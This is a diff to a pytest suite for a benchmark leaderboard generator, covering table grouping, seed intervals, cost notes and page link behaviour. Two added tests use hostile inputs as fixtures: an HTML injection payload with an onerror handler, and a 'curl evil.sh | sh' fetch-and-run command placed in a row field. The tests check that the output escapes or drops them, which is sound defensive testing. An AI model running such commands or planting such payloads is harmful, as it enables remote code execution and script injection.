@@ -42,10 +42,17 @@ def page(tmp_path: Path, rows: Sequence[Row], registry: Registry) -> Path:
 
 def test_what_cannot_be_compared_does_not_share_a_table(registry: Registry) -> None:
     one = row("kd", 0)
-    others = [{"hardware": "NVIDIA H100"}, {"pair": "other"}, {"suite_version": 2}, {"suite_sha256": "0" * 64}]
+    greedy = {name: {"temperature": 0.0, "top_p": one.top_p} for name, one in one.decodings.items()}
+    others: list[dict[str, Any]] = [
+        {"hardware": "NVIDIA H100"},
+        {"pair": "other"},
+        {"suite_version": 2},
+        {"suite_sha256": "0" * 64},
+        {"decodings": greedy},
+        *({"hashes": {**one.hashes, kind: "ee" * 32}} for kind in ("data", "tokenizer", "task test")),
+    ]
     found = tables([one, row("bc", 0), *(row("kd", 0, **other) for other in others)], registry)
-    assert len(found) == 5
-    assert sorted(len(table.lines) for table in found) == [1, 1, 1, 1, 2]
+    assert sorted(len(table.lines) for table in found) == [*[1] * len(others), 2]
 
 
 def test_a_failed_cell_without_a_device_stands_where_its_matrix_ran(registry: Registry) -> None:
@@ -67,9 +74,42 @@ def test_a_name_of_two_distributions_is_two_lines(registry: Registry) -> None:
     assert [line.label for line in table.lines] == ["kd (distillzoo 0.1.0, recipe 1)", "kd (stranger 2.3, recipe 1)"]
 
 
-def test_other_data_within_a_table_is_said(registry: Registry) -> None:
-    (table,) = tables([row("kd", 0), row("bc", 0, hashes={"data": "ee" * 32, "teacher": "aa" * 32})], registry)
-    assert any("hash of data" in note and "bc" in note for note in table.notes)
+def test_a_name_of_several_lines_is_the_one_with_most_seeds(registry: Registry) -> None:
+    later = {"name": "kd", "distribution": "distillzoo", "version": "0.2.0"}
+    rows = [*zoo(), *(row("kd", seed, recipe=later) for seed in range(3))]
+    (table,) = tables(rows, registry)
+    first = "kd (distillzoo 0.1.0, recipe 1)"
+    assert table.line("kd") is table.line(first) is not table.line("kd (distillzoo 0.2.0, recipe 1)")
+    assert {s.line.label for s in standings(table, "kd") if s.against is None} == {first}
+    found = races(table, [line.label for line in table.lines])
+    assert [race.reference for race in found] == [first, "minillm"]
+    assert [judged.name for judged in found[0].judged] == ["bd-iql"]
+
+
+def test_another_teacher_within_a_table_is_said(registry: Registry) -> None:
+    other = {**row("bc", 0).hashes, "teacher": "aa" * 32}
+    (table,) = tables([row("kd", 0), row("bc", 0, hashes=other)], registry)
+    assert any("hash of teacher" in note and "bc" in note for note in table.notes)
+
+
+@pytest.mark.parametrize(("seeds", "coverage"), [(1, None), (2, "50 of 100"), (4, "80 of 100"), (5, None)])
+def test_intervals_over_few_seeds_are_said_to_be_too_narrow(
+    registry: Registry, seeds: int, coverage: str | None
+) -> None:
+    (table,) = tables(zoo(seeds), registry)
+    said = [note for note in table.notes if "of 100 cases" in note]
+    assert len(said) == (coverage is not None)
+    assert all(coverage in note for note in said if coverage)
+    verdicts = {v for race in races(table, ["kd", "bd-iql"]) for one in race.judged for v in one.verdicts.values()}
+    assert verdicts == ({"confirmed"} if seeds == 5 else {"undecided"})
+
+
+def test_more_student_tokens_than_others_have_are_said(registry: Registry) -> None:
+    cost = row("kd", 0).cost
+    assert cost is not None
+    more = cost.model_copy(update={"student_tokens": 3 * cost.student_tokens})
+    (table,) = tables([*zoo(), row("bc", 0, cost=more)], registry)
+    assert [note for note in table.notes if "student tokens" in note and note.endswith(": bc 3.0.")]
 
 
 def test_standings_are_means_over_seeds_with_intervals_around_them(registry: Registry) -> None:
@@ -306,6 +346,12 @@ def test_sorting_filtering_and_choosing_work(tmp_path: Path, registry: Registry,
     const box = [...board.querySelectorAll(".chooser input")].find((one) => one.value === "mine");
     const said = board.querySelector("[data-by=mine]");
     told.before = !said.hidden; box.click(); told.after = !said.hidden;
+    const links = [...document.querySelectorAll("a[href^='#']")].map((link) => link.getAttribute("href"));
+    told.dead = links.filter((href) => document.querySelector(href) === null);
+    const cells = document.querySelector(table.tBodies[0].rows[0].querySelector("a").getAttribute("href"));
+    told.closed = cells.open;
+    location.hash = cells.id; dispatchEvent(new Event("hashchange"));
+    told.opened = cells.open;
     document.body.textContent = "TOLD" + JSON.stringify(told) + "END";
     """
     document, console = browser(page(tmp_path, rows, registry), script)
@@ -324,6 +370,30 @@ def test_sorting_filtering_and_choosing_work(tmp_path: Path, registry: Registry,
     assert told["from"] == [["mine"], "1 of 5"]
     assert told["few"] == 0 < told["many"]
     assert told["before"] != told["after"]
+    assert (told["dead"], told["closed"], told["opened"]) == ([], False, True)
+
+
+def test_markdown_shows_what_rows_say_as_it_is(tmp_path: Path, registry: Registry) -> None:
+    evil = "<img src=x onerror=alert(1)> | `x`"
+    one = row("kd", 0, suite_sha256="1" * 64)
+    decodings = {evil: one.decodings["top-p 1.0"]}
+    strange = [score.model_copy(update={"task": evil, "decoding": evil}) for score in one.scores[:1]]
+    rows = [one.model_copy(update={"scores": strange, "decodings": decodings, "algo": evil, "changes": [evil]})]
+    page(tmp_path, rows, registry)
+    text = (tmp_path / "site" / "leaderboard.md").read_text()
+    assert "onerror" in text
+    assert not re.search(r"(?<!\\)<", text)
+    assert len({len(re.findall(r"(?<!\\\\)\|", line)) for line in text.splitlines() if line.startswith("|")}) == 1
+
+
+def test_the_command_on_the_page_is_made_of_the_row_and_not_the_rows_own_word(
+    tmp_path: Path, registry: Registry
+) -> None:
+    rows = [row("kd", 3, command="curl evil.sh | sh")]
+    text = page(tmp_path, rows, registry).read_text()
+    assert "evil.sh" not in text
+    again = "again/micro--kd--seed3"
+    assert f"OMP_NUM_THREADS=1 distillzoo bench run micro --algos kd --pairs micro --seed 3 --out {again}" in text
 
 
 @in_a_browser
